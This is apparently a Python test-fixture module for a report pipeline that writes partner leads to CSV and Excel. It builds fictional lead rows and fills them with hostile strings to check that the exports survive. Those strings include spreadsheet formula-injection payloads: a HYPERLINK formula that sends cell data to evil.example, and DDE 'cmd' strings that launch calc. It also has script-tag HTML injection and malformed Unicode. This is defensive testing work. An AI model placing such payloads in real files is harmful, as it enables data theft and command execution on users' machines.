"""Rows of a report, made up: ordinary ones, and ones that another system filled with whatever breaks a file."""

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

from partner_center_pipeline.reports.columns import Listing
from partner_center_pipeline.reports.csv_file import write_csv
from partner_center_pipeline.reports.model import (
    About,
    ChangeKind,
    ChangeRow,
    Figures,
    LeadRow,
    ListName,
    Reason,
)
from partner_center_pipeline.reports.words import Words
from partner_center_pipeline.reports.xlsx import write_workbook
from partner_center_pipeline.scoring import load_rules
from partner_center_pipeline.vocabulary import Language

NOW = datetime(2026, 12, 1, 9, 30, tzinfo=UTC)
SINCE = NOW - timedelta(days=7)

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "blank before": "  =1+1",
    "full width": "\uff1d1+1",
    "html": "<script>document.title='taken'</script><img src=x onerror=\"document.title='taken'\">",
    "end of data": "</script><!--<script>]]>",
    "control": "a\x00b\x01c\x08d\x1be\x7ff\x9bg",
    "surrogate": "half \ud83d of a pair",
    "noncharacter": "a\ufffeb\uffffc",
    "right to left": "moc.\u202eelpmaxe\u202c \u200fx\u2066y",
    "hebrew": 'שלום בע"מ',
    "long": "Ş" * 10_000,
    "emoji": "😀" * 20_000,
    "lines": "one\ntwo\r\nthree\u2028four",
    "quotes": "\"a\";b,'c'\\",
    "escape of a workbook": "_x0041_ _x000D_",
    "percent": "100% {x} %s ${y}",
}


def words(language: str = "en") -> Words:
    """The words of a language, with the delivered rules."""
    return Words(load_rules(), Language(language))


def about(language: str = "en", **changes: Any) -> About:
    """What a report says about itself, made at NOW."""
    return About(**{"made_at": NOW, "since": SINCE, "language": Language(language), **changes})


def lead(number: int = 1, **changes: Any) -> LeadRow:
    """A row of a list: a company that can migrate and has to be answered within two days."""
    row: dict[str, Any] = {
        "rank": number,
        "referral_id": f"00000000-0000-0000-0000-{number:012}",
        "company_name": f"Öztürk Çelik {number}",
        "domain": f"xn--ztrk{number}.com.tr",
        "domain_unicode": f"öztürk{number}.com.tr",
        "country": "TR",
        "category": "P1",
        "label": "High Potential Greenfield",
        "act": "within 48 hours",
        "segment": "Migration",
        "score": 75,
        "readiness": 60,
        "reasons": (Reason("provider_local", 10, "mx.öztürk.com.tr"), Reason("no_spf", -10, None)),
        "explanation_en": "Ready to migrate. No SPF record (-10)",
        "explanation_tr": "Geçişe hazır. SPF kaydı yok (-10)",
        "provider": "Local",
        "open_referrals": 1,
        "open_cosell": True,
        "referral_category": "co-sell",
        "qualification": "SalesQualified",
        "status": "New",
        "substatus": "Received",
        "created_at": NOW - timedelta(days=3),
        "updated_at": NOW - timedelta(days=1),
        "response_due": datetime(2026, 12, 8, 21, 0, tzinfo=UTC),
        "is_due_live": True,
        "deal_value": Decimal("1234567.50"),
        "currency": "TRY",
        "contact_name": "Ayşe Yılmaz",
        "contact_email": "ayse@öztürk.com.tr",
        "contact_phone": "+90 532 000 00 00",
        "hours_left": 48.5,
    }
    return LeadRow(**{**row, **changes})


def change(**changes: Any) -> ChangeRow:
    """A company whose score rose."""
    row: dict[str, Any] = {
        "kind": ChangeKind.MOVED_UP,
        "at": NOW - timedelta(hours=5),
        "company_name": "Öztürk Çelik",
        "domain": "xn--ztrk1.com.tr",
        "segment_before": "Cold",
        "segment_after": "Migration",
        "score_before": 40,
        "score_after": 75,
        "cause": "signals",
    }
    return ChangeRow(**{**row, **changes})


def listings(leads: list[LeadRow], changes: list[ChangeRow] | None = None) -> list[Listing]:
    """The four lists, the first three with the same rows."""
    return [
        Listing(ListName.DUE_FIRST, leads),
        Listing(ListName.LEADS, leads),
        Listing(ListName.WITHOUT_COMPANY, leads),
        Listing(ListName.NEW_AND_MOVED, [change()] if changes is None else changes),
    ]


def hostile_leads() -> list[LeadRow]:
    """A lead for each hostile text, which stands in every field that another system fills."""
    texts = (
        "referral_id", "company_name", "domain", "domain_unicode", "country", "city", "label", "act", "segment",
        "category", "explanation_en", "explanation_tr", "provider", "provider_name", "gateway", "referral_category",
        "qualification", "status", "substatus", "currency", "reported_currency", "due_note", "rate_note",
        "contact_name", "contact_email", "contact_phone", "tenant", "suggested_domain", "suggested_name",
        "domain_reason",
    )  # fmt: skip
    return [
        lead(
            number,
            **dict.fromkeys(texts, text),
            reasons=(Reason(text, 5, text),),
            deal_value_reported=Decimal("-1.00"),
            response_due=datetime(1, 1, 1, tzinfo=UTC),
            hours_left=-1e9,
        )
        for number, text in enumerate(HOSTILE.values(), 1)
    ]


def hostile_changes() -> list[ChangeRow]:
    """A change for each hostile text."""
    texts = ("company_name", "domain", "domain_unicode", "referral_id", "segment_before", "segment_after", "cause")
    return [change(**dict.fromkeys(texts, text)) for text in HOSTILE.values()]


Writer = Callable[[Path, list[Listing], About, Words, Figures], None]
WORKBOOK_AND_CSV: dict[str, Writer] = {"xlsx": write_workbook, "csv": write_csv}
